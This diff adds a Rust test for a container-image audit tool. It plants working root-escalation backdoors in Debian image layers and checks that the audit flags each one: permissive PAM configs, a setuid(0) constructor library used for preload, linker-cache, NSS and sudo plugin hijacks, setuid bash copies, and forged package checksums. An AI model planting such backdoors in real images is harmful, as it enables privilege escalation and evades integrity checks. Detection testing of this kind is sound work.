@@ -1,0 +1,643 @@
+//! Ways to root that a layer can open for the user 1001, and their near twins: the audit and a real run
+//! agree on each.
+//!
+//! All lie on one base: Debian 12 with a setuid su, sudo and a database for the name service, whose
+//! package database knows every file.
+
+#![allow(clippy::unwrap_used, reason = "a test")]
+
+use std::collections::BTreeSet;
+use std::fmt::Write as _;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+use std::str::FromStr as _;
+
+use md5::{Digest as _, Md5};
+use serde_json::json;
+use warpdrive::audit::{self, Date, Policy, Report, Severity};
+use warpdrive::oci::{HistoryEntry, ImageConfig, MediaType, descriptor, sha256, to_canonical_json};
+use warpdrive::store::Store;
+
+use crate::support::made::{Layer, on_top};
+use crate::support::podman::Podman;
+use crate::support::process;
+use crate::support::run::RunOptions;
+use crate::support::warpdrive::{PYTHON_311_RUN, Warpdrive};
+
+const BASE: &str = "corpus-base";
+const ACCOUNTS: &str = "root:x:0:0:root:/root:/bin/bash\napp:x:1001:1001::/home/app:/bin/bash\n";
+const GROUPS: &str = "root:x:0:\nshadow:x:42:\nsudo:x:27:\nops:x:1500:\napp:x:1001:\n";
+const SHADOW: &str = "root:*:19000::::::\napp:!:19000::::::\n";
+const LIBRARIES: &str = "usr/lib/x86_64-linux-gnu";
+
+/// `openssl passwd -6` of a word that is on no list.
+const HASH: &str = "$6$Zk3vRr0qTq8xW1pe$T//5xe5d.jp5.UXF0YhLGIBt1sxp./IxC80FxOk2x7Ugqd1eCVTqU30Ov8OBiaLKmRrkcBlz8gU8RTEpkyYc1.";
+
+const SU: &str = "su -c 'id -u' </dev/null";
+const SU_WITH_WORD: &str = "echo 'correct horse battery' | su -c 'id -u'";
+const SUDO: &str = "sudo -n id -u";
+const SUDO_ASKING: &str = "sudo -S id -u </dev/null";
+
+/// What runs as root when it is loaded by a program that is root, once.
+const OWN: &str = "int geteuid(), setuid(), setgid(), execl(), putenv(); char *getenv();\n\
+    int misc_conv() { return 0; }\n\
+    __attribute__((constructor)) static void begin(void) {\n\
+    if (geteuid() == 0 && !getenv(\"OWN\")) { putenv(\"OWN=1\"); setgid(0); setuid(0);\n\
+    execl(\"/usr/bin/id\", \"id\", \"-u\", (char *)0); } }\n";
+
+/// What the cases are made of.
+struct Parts {
+    directory: tempfile::TempDir,
+    base: Vec<u8>,
+}
+
+impl Parts {
+    fn new(store: &Store) -> Self {
+        let directory = tempfile::tempdir().unwrap();
+        for package in ["sudo", "libnss-db"] {
+            let place = directory.path();
+            process::run(
+                Command::new("apt-get")
+                    .current_dir(place)
+                    .args(["download", package]),
+            );
+            let file = fs::read_dir(place)
+                .unwrap()
+                .map(|entry| entry.unwrap().path())
+                .find(|path| {
+                    let name = path.file_name().unwrap().to_string_lossy();
+                    name.starts_with(&format!("{package}_"))
+                })
+                .expect("apt-get has fetched it");
+            for (option, target) in [
+                ("-x", package.to_owned()),
+                ("-e", format!("{package}.control")),
+            ] {
+                process::run(
+                    Command::new("dpkg-deb")
+                        .current_dir(place)
+                        .arg(option)
+                        .arg(&file)
+                        .arg(target),
+                );
+            }
+        }
+        let image = store.image(PYTHON_311_RUN).unwrap().unwrap();
+        let layer = image.manifest.layers()[0].digest();
+        let mut tar = Vec::new();
+        let mut blob = flate2::read::MultiGzDecoder::new(store.open_blob(layer).unwrap());
+        std::io::copy(&mut blob, &mut tar).unwrap();
+        Self {
+            directory,
+            base: tar,
+        }
+    }
+
+    fn path(&self, name: &str) -> PathBuf {
+        self.directory.path().join(name)
+    }
+
+    /// A file of the base.
+    fn shipped(&self, path: &str) -> Vec<u8> {
+        let mut archive = tar::Archive::new(&self.base[..]);
+        for entry in archive.entries().unwrap() {
+            let mut entry = entry.unwrap();
+            if entry.path().unwrap().strip_prefix("./").ok() == Some(Path::new(path)) {
+                let mut bytes = Vec::new();
+                std::io::Read::read_to_end(&mut entry, &mut bytes).unwrap();
+                return bytes;
+            }
+        }
+        panic!("{path} is not in the base");
+    }
+
+    /// The base's layer with the packages on it, and with their lists.
+    fn with_packages(&self) -> Vec<u8> {
+        let mut layer = Layer::new()
+            .file("etc/passwd", 0o644, ACCOUNTS)
+            .file("etc/group", 0o644, GROUPS)
+            .owned("etc/shadow", 0o640, (0, 42), SHADOW)
+            .file("etc/sudoers", 0o440, "root ALL=(ALL:ALL) ALL\n")
+            .file("usr/bin/su", 0o4755, self.shipped("usr/bin/su"))
+            .dir("opt/own", 0o755, (0, 0))
+            .symlink(&format!("{LIBRARIES}/libnss_db.so.2"), "libnss_db-2.2.3.so")
+            .symlink(
+                "usr/libexec/sudo/libsudo_util.so.0",
+                "libsudo_util.so.0.0.0",
+            );
+        for (package, path, mode) in [
+            ("sudo", "usr/bin/sudo", 0o4755),
+            ("sudo", "usr/libexec/sudo/libsudo_util.so.0.0.0", 0o644),
+            ("sudo", "usr/libexec/sudo/sudoers.so", 0o644),
+            ("sudo", "usr/libexec/sudo/group_file.so", 0o644),
+            ("sudo", "etc/pam.d/sudo", 0o644),
+            ("sudo", "etc/sudo.conf", 0o644),
+            ("libnss-db", "usr/bin/makedb", 0o755),
+        ] {
+            layer = layer.file(path, mode, fs::read(self.path(package).join(path)).unwrap());
+        }
+        let module = self.path("libnss-db/lib/x86_64-linux-gnu/libnss_db-2.2.3.so");
+        layer = layer.file(
+            &format!("{LIBRARIES}/libnss_db-2.2.3.so"),
+            0o644,
+            fs::read(module).unwrap(),
+        );
+        for package in ["sudo", "libnss-db"] {
+            let list = fs::read(self.path(&format!("{package}.control/md5sums"))).unwrap();
+            layer = layer.file(&format!("var/lib/dpkg/info/{package}.md5sums"), 0o644, list);
+        }
+        let layer = layer.bytes();
+        // Engines refuse an archive that has a path twice: what is replaced is cut out.
+        let replaced: BTreeSet<PathBuf> = tar::Archive::new(&layer[..])
+            .entries()
+            .unwrap()
+            .map(|entry| entry.unwrap().path().unwrap().into_owned())
+            .collect();
+        let mut tar = Vec::with_capacity(self.base.len() + layer.len());
+        let mut kept = 0;
+        let mut end = 0;
+        for entry in tar::Archive::new(&self.base[..]).entries().unwrap() {
+            let entry = entry.unwrap();
+            let path = entry.path().unwrap().into_owned();
+            let begin = usize::try_from(entry.raw_header_position()).unwrap();
+            let content = usize::try_from(entry.raw_file_position()).unwrap();
+            let size = usize::try_from(entry.size()).unwrap();
+            end = content + size.div_ceil(512) * 512;
+            if replaced.contains(path.strip_prefix("./").unwrap_or(&path)) {
+                tar.extend_from_slice(&self.base[kept..begin]);
+                kept = end;
+            }
+        }
+        tar.extend_from_slice(&self.base[kept..end]);
+        tar.extend(layer);
+        tar
+    }
+
+    /// A library of one's own, under this soname.
+    fn own(&self, soname: &str) -> Vec<u8> {
+        let (source, target) = (self.path("own.c"), self.path(soname));
+        fs::write(&source, OWN).unwrap();
+        process::run(
+            Command::new("cc")
+                .args(["-shared", "-fPIC", "-nostartfiles", "-O1"])
+                .arg(format!("-Wl,-soname,{soname}"))
+                .arg("-o")
+                .arg(&target)
+                .arg(&source),
+        );
+        fs::read(target).unwrap()
+    }
+
+    /// `/etc/ld.so.cache` of a system where libraries lie in `/opt/own`.
+    fn cache(&self, soname: &str) -> Vec<u8> {
+        let root = self.path(&format!("cache-{soname}"));
+        fs::create_dir_all(root.join("opt/own")).unwrap();
+        fs::create_dir_all(root.join("etc")).unwrap();
+        fs::write(root.join("opt/own").join(soname), self.own(soname)).unwrap();
+        fs::write(root.join("etc/ld.so.conf"), "/opt/own\n").unwrap();
+        process::run(Command::new("ldconfig").arg("-r").arg(&root));
+        fs::read(root.join("etc/ld.so.cache")).unwrap()
+    }
+}
+
+fn md5(bytes: &[u8]) -> String {
+    Md5::digest(bytes)
+        .iter()
+        .fold(String::new(), |mut text, byte| {
+            write!(text, "{byte:02x}").unwrap();
+            text
+        })
+}
+
+/// The base as an image of one layer.
+fn put_base(store: &Store, tar: &[u8]) {
+    let mut config = ImageConfig::new("linux", "amd64");
+    config.set("User", json!("1001"));
+    config.set("WorkingDir", json!("/opt"));
+    config.set(
+        "Env",
+        json!(["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"]),
+    );
+    let history = HistoryEntry {
+        created: "1980-01-01T00:00:01Z".into(),
+        created_by: "mmdebstrap".into(),
+        empty_layer: false,
+    };
+    config.push_layer(&sha256(tar), &history);
+    let (digest, size) = store.put_blob(tar).unwrap();
+    let layer = descriptor(MediaType::ImageLayer, digest, size);
+    let (digest, size) = store.put_blob(&config.to_bytes()).unwrap();
+    let config = descriptor(MediaType::ImageConfig, digest, size);
+    let manifest = to_canonical_json(&json!({
+        "schemaVersion": 2, "mediaType": MediaType::ImageManifest.to_string(),
+        "config": config, "layers": [layer],
+    }))
+    .unwrap();
+    let (digest, size) = store.put_blob(&manifest).unwrap();
+    store
+        .tag(BASE, &descriptor(MediaType::ImageManifest, digest, size))
+        .unwrap();
+}
+
+/// The engine with the images of a store.
+struct Engine {
+    podman: Podman,
+    layout: PathBuf,
+}
+
+impl Engine {
+    fn run(&self, name: &str, script: &str) -> Output {
+        let image = format!("localhost/corpus:{name}");
+        // The base's layer is taken once.
+        process::run(self.podman.other("skopeo").args([
+            "--insecure-policy",
+            "copy",
+            "--quiet",
+            &format!("oci:{}:{name}", self.layout.display()),
+            &format!("containers-storage:{image}"),
+        ]));
+        self.podman
+            .output(&RunOptions::new(image).command(["sh", "-c", script]))
+    }
+}
+
+fn judged(store: &Store, name: &str, base: Option<&str>) -> Report {
+    let open = |name: &str| {
+        let image = store.image(name).unwrap().unwrap();
+        audit::from_store(store, name, &image).unwrap()
+    };
+    let mut image = open(name);
+    if let Some(base) = base {
+        image.trust(&open(base)).unwrap();
+    }
+    let today = Date::from_str("2026-06-01").unwrap();
+    audit::audit_remembering(store, &image, &Policy::default(), today).unwrap()
+}
+
+/// What the audit has to say of a way.
+#[derive(Clone, Copy)]
+enum Says {
+    /// A finding of high severity of this rule.
+    High(&'static str),
+    /// The image alone cannot tell: `self-vouched`, and this rule once the base is named.
+    WithBase(&'static str),
+}
+
+/// A way to root, and its near twin, which is none: layers, and what is tried.
+struct Case {
+    name: &'static str,
+    says: Says,
+    script: &'static str,
+    way: Layer,
+    twin: Layer,
+}
+
+fn case(
+    name: &'static str,
+    rule: &'static str,
+    script: &'static str,
+    make: impl Fn(bool) -> Layer,
+) -> Case {
+    Case {
+        name,
+        says: Says::High(rule),
+        script,
+        way: make(true),
+        twin: make(false),
+    }
+}
+
+fn pick<'t>(is_way: bool, way: &'t str, twin: &'t str) -> &'t str {
+    if is_way { way } else { twin }
+}
+
+fn of_pam(parts: &Parts) -> Vec<Case> {
+    let shipped = |path: &str| String::from_utf8(parts.shipped(path)).unwrap();
+    let su = shipped("etc/pam.d/su");
+    let common = shipped("etc/pam.d/common-auth");
+    let open = "auth sufficient pam_permit.so\naccount required pam_permit.so\nsession required pam_permit.so\n";
+    let rule = "app ALL=(ALL) ALL\n";
+    let modules = format!("{LIBRARIES}/security");
+    vec![
+        case("pam-su", "pam", SU, |way| {
+            let line = pick(
+                way,
+                "auth sufficient pam_permit.so",
+                "session sufficient pam_permit.so",
+            );
+            Layer::new().file("etc/pam.d/su", 0o644, format!("{line}\n{su}"))
+        }),
+        case("pam-common-auth", "pam", SU, |way| {
+            let control = pick(way, "sufficient", "optional");
+            let text = format!("auth {control} pam_permit.so\n{common}");
+            Layer::new().file("etc/pam.d/common-auth", 0o644, text)
+        }),
+        case("pam-link", "account-unreadable", SU, |way| {
+            let layer = Layer::new().file("opt/own/su", 0o644, open);
+            if way {
+                layer.symlink("etc/pam.d/su", "/opt/own/su")
+            } else {
+                // A link within the directory is followed.
+                layer
+                    .file("etc/pam.d/su-own", 0o644, &su)
+                    .symlink("etc/pam.d/su", "su-own")
+            }
+        }),
+        case("pam-below-usr-lib", "pam", SU, |way| {
+            let layer = Layer::new().file("usr/lib/pam.d/su", 0o644, open);
+            if way {
+                layer.whiteout("etc/pam.d/su")
+            } else {
+                layer
+            }
+        }),
+        case("pam-sudo", "pam", SUDO_ASKING, |way| {
+            Layer::new().file("etc/pam.d/sudo", 0o644, open).file(
+                "etc/sudoers",
+                0o440,
+                pick(way, rule, "ops ALL=(ALL) ALL\n"),
+            )
+        }),
+        case("pam-unix", "library", SU, |way| {
+            let path = format!("{modules}/{}", pick(way, "pam_unix.so", "pam_unused.so"));
+            Layer::new().file(&path, 0o644, parts.own("pam_unix.so"))
+        }),
+        case("pam-exec", "pam", SU, |way| {
+            let line = "optional pam_exec.so seteuid stdout /usr/bin/id -u";
+            let kind = pick(way, "auth", "session");
+            Layer::new().file("etc/pam.d/su", 0o644, format!("{kind} {line}\n{su}"))
+        }),
+        case("libpam-misc", "library", SU, |way| {
+            let bytes = if way {
+                parts.own("libpam_misc.so.0")
+            } else {
+                parts.shipped(&format!("{LIBRARIES}/libpam_misc.so.0.82.1"))
+            };
+            Layer::new().file(&format!("{LIBRARIES}/libpam_misc.so.0.82.1"), 0o644, bytes)
+        }),
+    ]
+}
+
+fn of_the_linker_and_the_name_service(parts: &Parts, database: &[u8]) -> Vec<Case> {
+    let own = parts.own("libown.so");
+    let switch = |passwd: &str, shadow: &str| {
+        format!("passwd: {passwd}\ngroup: files\nshadow: {shadow}\nhosts: files\n")
+    };
+    vec![
+        case("preload", "preload", SU, |way| {
+            let text = pick(way, "/opt/own/libown.so\n", "# /opt/own/libown.so\n");
+            Layer::new().file("opt/own/libown.so", 0o644, &own).file(
+                "etc/ld.so.preload",
+                0o644,
+                text,
+            )
+        }),
+        case("linker-cache", "library", SU, |way| {
+            let soname = pick(way, "libpam_misc.so.0", "libunused.so.0");
+            Layer::new()
+                .file(&format!("opt/own/{soname}"), 0o644, parts.own(soname))
+                .file("etc/ld.so.cache", 0o644, parts.cache(soname))
+        }),
+        case("name-service-module", "library", SU, |way| {
+            Layer::new()
+                .file(
+                    &format!("{LIBRARIES}/libnss_own.so.2"),
+                    0o644,
+                    parts.own("libnss_own.so.2"),
+                )
+                .file(
+                    "etc/nsswitch.conf",
+                    0o644,
+                    switch(pick(way, "own files", "files"), "files"),
+                )
+        }),
+        case(
+            "name-service-database",
+            "name-service",
+            SU_WITH_WORD,
+            |way| {
+                Layer::new()
+                    .file("var/lib/misc/shadow.db", 0o644, database)
+                    .file(
+                        "etc/nsswitch.conf",
+                        0o644,
+                        switch("files", pick(way, "db files", "files")),
+                    )
+            },
+        ),
+        case(
+            "acl",
+            "account-writable",
+            "echo 'own::0:0::/:/bin/sh' >>/etc/passwd; su own -c 'id -u' </dev/null",
+            |way| {
+                let mut list = 2_u32.to_le_bytes().to_vec();
+                let permissions: u16 = if way { 6 } else { 4 };
+                for (tag, permissions, id) in [
+                    (1_u16, 6, u32::MAX),
+                    (2, permissions, 1001_u32),
+                    (4, 4, u32::MAX),
+                    (0x10, permissions, u32::MAX),
+                    (0x20, 4, u32::MAX),
+                ] {
+                    list.extend(tag.to_le_bytes());
+                    list.extend(permissions.to_le_bytes());
+                    list.extend(id.to_le_bytes());
+                }
+                Layer::new().xattr("system.posix_acl_access", &list).file(
+                    "etc/passwd",
+                    0o644,
+                    ACCOUNTS,
+                )
+            },
+        ),
+    ]
+}
+
+fn of_sudo(parts: &Parts) -> Vec<Case> {
+    let sudoers = |text: &str| Layer::new().file("etc/sudoers", 0o440, text);
+    vec![
+        case("sudo-plugin", "library", SUDO, |way| {
+            let name = pick(way, "own.so", "sudoers.so");
+            Layer::new()
+                .file("usr/libexec/sudo/own.so", 0o644, parts.own("own.so"))
+                .file(
+                    "etc/sudo.conf",
+                    0o644,
+                    format!("Plugin sudoers_policy {name}\n"),
+                )
+        }),
+        case("sudo-exempt-group", "sudo-nopasswd", SUDO, |way| {
+            let group = pick(way, "app", "ops");
+            sudoers(&format!(
+                "Defaults exempt_group={group}\napp ALL=(ALL) ALL\n"
+            ))
+        }),
+        case("sudo-netgroup", "sudo-nopasswd", SUDO, |way| {
+            let user = pick(way, "app", "ops");
+            sudoers("+admins ALL=(ALL) NOPASSWD: ALL\n")
+                .file("etc/netgroup", 0o644, format!("admins (,{user},)\n"))
+                .file(
+                    "etc/nsswitch.conf",
+                    0o644,
+                    "passwd: files\ngroup: files\nshadow: files\nnetgroup: files\n",
+                )
+        }),
+        case("root-password", "password-usable", SU_WITH_WORD, |way| {
+            let lock = pick(way, "", "!");
+            let text = format!("root:{lock}{HASH}:19000::::::\napp:!:19000::::::\n");
+            Layer::new().owned("etc/shadow", 0o640, (0, 42), text)
+        }),
+    ]
+}
+
+fn of_programs(parts: &Parts) -> Vec<Case> {
+    let (bash, su) = (parts.shipped("usr/bin/bash"), parts.shipped("usr/bin/su"));
+    let python = parts.shipped("usr/bin/python3.11");
+    let capability = |bit: u32| {
+        let mut value = 0x0200_0001_u32.to_le_bytes().to_vec();
+        value.extend((1_u32 << bit).to_le_bytes());
+        value.extend([0; 12]);
+        value
+    };
+    let mode = |way: bool| if way { 0o4755 } else { 0o755 };
+    let named = |name: &'static str, path: &'static str, script: &'static str| {
+        case(name, "setuid-unowned", script, |way| {
+            Layer::new().file(path, mode(way), &bash)
+        })
+    };
+    let lists: Vec<&str> = vec!["util-linux", "util-linux-extra", "login"];
+    let forged = case(
+        "forged-database",
+        "setuid-changed",
+        "/usr/bin/chsh -p -c 'id -u'",
+        |way| {
+            Layer::new()
+                .file("usr/bin/chsh", mode(way), &bash)
+                .file(
+                    "var/lib/dpkg/status",
+                    0o644,
+                    "Package: passwd\nStatus: install ok installed\n",
+                )
+                .file(
+                    "var/lib/dpkg/info/passwd.md5sums",
+                    0o644,
+                    format!("{}  usr/bin/chsh\n", md5(&bash)),
+                )
+        },
+    );
+    vec![
+        named("pkexec", "usr/bin/pkexec", "pkexec -p -c 'id -u'"),
+        named(
+            "ssh-keysign",
+            "usr/lib/openssh/ssh-keysign",
+            "/usr/lib/openssh/ssh-keysign -p -c 'id -u'",
+        ),
+        case(
+            "lists-taken-away",
+            "setuid-changed",
+            "su -p -c 'id -u' </dev/null",
+            |way| {
+                let bytes = if way { &bash } else { &su };
+                lists.iter().fold(
+                    Layer::new().file("usr/bin/su", 0o4755, bytes),
+                    |layer, list| layer.whiteout(&format!("var/lib/dpkg/info/{list}.md5sums")),
+                )
+            },
+        ),
+        case(
+            "ping",
+            "capability",
+            "ping -c 'import os; os.setuid(0); print(os.getuid())'",
+            |way| {
+                Layer::new()
+                    .xattr("security.capability", &capability(if way { 7 } else { 13 }))
+                    .file("usr/bin/ping", 0o755, &python)
+            },
+        ),
+        Case {
+            says: Says::WithBase("setuid-unowned"),
+            ..forged
+        },
+    ]
+}
+
+fn high(report: &Report) -> Vec<&'static str> {
+    let grave = report
+        .findings
+        .iter()
+        .filter(|finding| finding.severity == Severity::High);
+    grave.map(|finding| finding.rule).collect()
+}
+
+#[test]
+fn ways_to_root_and_their_near_twins() {
+    let warpdrive = Warpdrive::with(PYTHON_311_RUN);
+    let store = Store::open(Some(&warpdrive.store())).unwrap();
+    let parts = Parts::new(&store);
+    put_base(&store, &parts.with_packages());
+    let engine = Engine {
+        podman: Podman::new(),
+        layout: warpdrive.store(),
+    };
+    let line =
+        format!("printf '.root root:{HASH}:19000::::::\\n00 root:{HASH}:19000::::::\\n' >/tmp/in");
+    let made = engine.run(
+        BASE,
+        &format!("{line}; makedb -o /tmp/out /tmp/in >&2; base64 -w 0 /tmp/out"),
+    );
+    let text = parts.path("database.txt");
+    fs::write(&text, &made.stdout).unwrap();
+    let database = Command::new("base64")
+        .arg("-d")
+        .arg(&text)
+        .output()
+        .unwrap()
+        .stdout;
+    assert!(!database.is_empty(), "{}", process::words(&made));
+    assert_eq!(
+        high(&judged(&store, BASE, None)),
+        [""; 0],
+        "the base itself"
+    );
+
+    let mut cases = of_pam(&parts);
+    cases.extend(of_the_linker_and_the_name_service(&parts, &database));
+    cases.extend(of_sudo(&parts));
+    cases.extend(of_programs(&parts));
+    let mut wrong = String::new();
+    for case in cases {
+        for (is_way, layer) in [(true, case.way), (false, case.twin)] {
+            let name = format!("{}-{}", case.name, if is_way { "way" } else { "twin" });
+            on_top(&store, BASE, &name, vec![layer], |_| {});
+            let output = engine.run(&name, case.script);
+            let becomes_root = String::from_utf8_lossy(&output.stdout)
+                .lines()
+                .any(|line| line == "0");
+            let alone = judged(&store, &name, None);
+            let trusting = judged(&store, &name, Some(BASE));
+            let agrees = match case.says {
+                _ if !is_way => high(&alone).is_empty() && high(&trusting).is_empty(),
+                Says::High(rule) => high(&alone).contains(&rule) && high(&trusting).contains(&rule),
+                Says::WithBase(rule) => {
+                    alone
+                        .findings
+                        .iter()
+                        .any(|finding| finding.rule == "self-vouched")
+                        && high(&trusting).contains(&rule)
+                }
+            };
+            if becomes_root != is_way || !agrees {
+                writeln!(
+                    wrong,
+                    "{name}: root: {becomes_root}; high: {:?}, with the base: {:?}\n{}\n",
+                    high(&alone),
+                    high(&trusting),
+                    process::words(&output),
+                )
+                .unwrap();
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong}");
+}
